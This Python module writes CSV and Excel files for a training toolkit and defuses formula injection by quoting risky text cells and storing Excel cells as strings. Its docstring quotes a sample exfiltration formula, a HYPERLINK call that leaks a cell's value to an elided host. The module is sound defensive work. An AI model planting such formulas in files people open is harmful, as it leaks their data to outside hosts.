"""Spreadsheet output that never turns user text into a live formula.

Every CSV and Excel file the toolkit writes goes through this module. Trainees' text (names,
authors, file names) ends up in a trainer's workbook, so a cell such as
``=HYPERLINK("http://…?leak="&A1,"x")`` must stay text (OWASP "CSV injection"):

- CSV: a text cell that begins with ``=``, ``+``, ``-``, ``@``, tab or carriage return is
  prefixed with a single quote, as OWASP recommends; numbers stay numbers.
- Excel: every text cell is stored as a string cell (never a formula), so it is shown as
  typed and nothing is evaluated; numbers stay numbers. A control character a cell cannot
  hold is written as a visible ``\\uXXXX`` escape.

Examples
--------
>>> defuse("=1+2")
"'=1+2"
>>> defuse("Wang Wei"), defuse(-3)
('Wang Wei', -3)
"""

from __future__ import annotations

import csv
import io as _io
import math
import re
from collections.abc import Mapping
from pathlib import Path
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

__all__ = ["FORMULA_PREFIXES", "csv_text", "defuse", "write_table"]

#: A text cell starting with one of these could be read as a formula by a spreadsheet.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


_SURROGATE = re.compile("[\ud800-\udfff]")
# What an Excel cell cannot hold: most C0 controls (openpyxl refuses them) and lone surrogates.
_NOT_IN_EXCEL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff]")


def _escape(match: re.Match[str]) -> str:
    return f"\\u{ord(match.group()):04x}"


def defuse(value: Any) -> Any:
    """``value`` made safe for a CSV cell: risky text gets a leading ``'``; anything else is unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def _plain(value: Any) -> Any:
    # pandas gives NaN/None for empty cells; a spreadsheet wants them empty. A lone surrogate
    # cannot be stored in UTF-8: it is written as a visible \uXXXX escape.
    if value is None or (isinstance(value, float) and math.isnan(value)):
        return ""
    if isinstance(value, str):
        return _SURROGATE.sub(_escape, value)
    return value


def csv_text(rows: list[list[Any]] | pd.DataFrame, header: list[str] | None = None) -> str:
    """Rows (or a DataFrame) as CSV text with every text cell defused; no BOM."""
    if not isinstance(rows, list):
        header = [str(c) for c in rows.columns]
        rows = rows.values.tolist()
    out = _io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    if header is not None:
        writer.writerow([defuse(h) for h in header])
    for row in rows:
        writer.writerow([defuse(_plain(v)) for v in row])
    return out.getvalue()


def write_table(tables: pd.DataFrame | Mapping[str, pd.DataFrame], path: str | Path) -> Path:
    """Write one table (or several, one sheet each) to ``.csv`` or ``.xlsx`` atomically.

    CSV is UTF-8 with a BOM (Excel then opens Chinese text correctly) and takes one table;
    an Excel file takes one sheet per table, names cut to Excel's 31 characters.
    """
    from .io import write_bytes_atomic, write_text_atomic

    target = Path(path)
    sheets = dict(tables) if isinstance(tables, Mapping) else {"Sheet1": tables}
    suffix = target.suffix.lower()
    if suffix == ".csv":
        first = next(iter(sheets.values()))
        return write_text_atomic(target, "\ufeff" + csv_text(first))
    if suffix != ".xlsx":
        from .errors import InvalidValue

        raise InvalidValue(target.name, "table_suffix", suffix or target.name, allowed=(".csv", ".xlsx"))
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    for name, frame in sheets.items():
        sheet = book.create_sheet(title=str(name)[:31])
        sheet.append([_string_cell(sheet, str(c)) for c in frame.columns])
        for row in frame.itertuples(index=False):
            sheet.append([_cell(sheet, v) for v in row])
    buffer = _io.BytesIO()
    book.save(buffer)
    return write_bytes_atomic(target, buffer.getvalue())


def _string_cell(sheet: Any, text: str) -> Any:
    from openpyxl.cell import WriteOnlyCell

    # A character a cell cannot hold is written as a visible \uXXXX escape, never dropped.
    text = _NOT_IN_EXCEL.sub(_escape, text)
    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"  # text, never a formula, whatever it starts with
    return cell


def _cell(sheet: Any, value: Any) -> Any:
    value = _plain(value)
    if isinstance(value, bool) or isinstance(value, (int, float)):
        return value
    if hasattr(value, "item"):  # numpy scalars
        return value.item()
    return _string_cell(sheet, str(value))
